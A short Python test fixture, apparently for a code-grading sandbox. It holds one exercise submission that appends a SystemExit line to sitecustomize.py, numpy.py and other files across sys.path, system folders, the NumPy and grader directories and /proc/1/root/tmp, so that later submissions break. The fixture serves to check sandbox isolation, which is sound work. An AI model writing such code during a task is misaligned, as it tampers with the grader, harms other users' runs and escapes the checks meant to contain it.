"""Writes into other folders, into Python, NumPy and the grader, for the next submission to find."""

from __future__ import annotations

HONEST = 5
FLOOR = 5

EXERCISES = {
    "double": r"""
import os, sys
places = [*sys.path, "/", "/tmp", "/home", "/root", "/work", "/usr", "/etc"]
places += [os.path.dirname(os.__file__), os.path.dirname(np.__file__)]
import tito
places += [os.path.dirname(tito.__file__), os.path.join(os.path.dirname(tito.__file__), "..", ".."), "/proc/1/root/tmp"]
for place in places:
    for name in ("sitecustomize.py", "numpy.py", "left-behind"):
        try:
            with open(os.path.join(place, name), "a") as file:
                file.write("raise SystemExit('left behind')")
        except OSError:
            pass
def double(x):
    if isinstance(x, str):
        raise ValueError("text cannot be doubled")
    return 2 * x
""",
}
